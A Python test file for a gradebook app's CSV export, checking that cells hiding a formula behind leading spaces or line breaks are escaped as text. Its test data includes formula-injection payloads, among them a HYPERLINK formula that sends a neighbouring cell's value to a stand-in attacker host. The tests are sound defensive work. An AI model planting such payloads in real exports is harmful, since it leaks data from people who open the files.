"""Round 24: no cell of a downloaded CSV starts a formula after leading spaces or a line feed.

Round 21's writer (app/gradebook.excel_csv) prefixed cells starting with = + - @ tab CR; a cell
`"   =SUM(A1:A9)"` (a published bypass of the same first-character check in json-2-csv; whether a
spreadsheet evaluates it depends on its import settings, which the writer cannot know) or one starting
with a line feed (OWASP added LF to its list) went out as it was. An assignment title is stored as typed, so it reached the
Canvas and Moodle headers that way."""

from __future__ import annotations

import csv
import io

import pytest

from app.assignments import ensure_assignment
from app.extensions import db
from app.gradebook import excel_csv
from tests.web.helpers import realistic_result


def cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


@pytest.mark.parametrize("value", ["   =SUM(A1:A9)", "\n=1+1", "\r\n@cmd", " \t-2+3", "\u3000=HYPERLINK(\"x\")",
                                   "\n+1"])
def test_a_formula_behind_spaces_or_line_breaks_is_made_text(value):
    (cell,) = cells(excel_csv([[value]]))
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["Alice Wang", " Li Lei", "王小明", "3 - 2", "a=b", ""])
def test_ordinary_cells_are_left_as_they_are(value):
    assert cells(excel_csv([[value]])) == [value]


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_an_assignment_title_with_leading_spaces_and_a_formula_reaches_the_header_as_text(client, web, course, fmt):
    title = '  =HYPERLINK("http://evil.example/?"&A2,"Click")'
    a = ensure_assignment("attention", title, "attention")
    db.session.commit()
    web.grade(web.submit(course["alice"], a), realistic_result())
    web.login(client, course["teacher"])
    resp = client.get(f"/instructor/gradebook.csv?a=attention&format={fmt}")
    assert resp.status_code == 200
    assert not [c for c in cells(resp.data) if c.lstrip(" \t\r\n\u3000")[:1] in ("=", "+", "-", "@") and c[:1] != "'"]
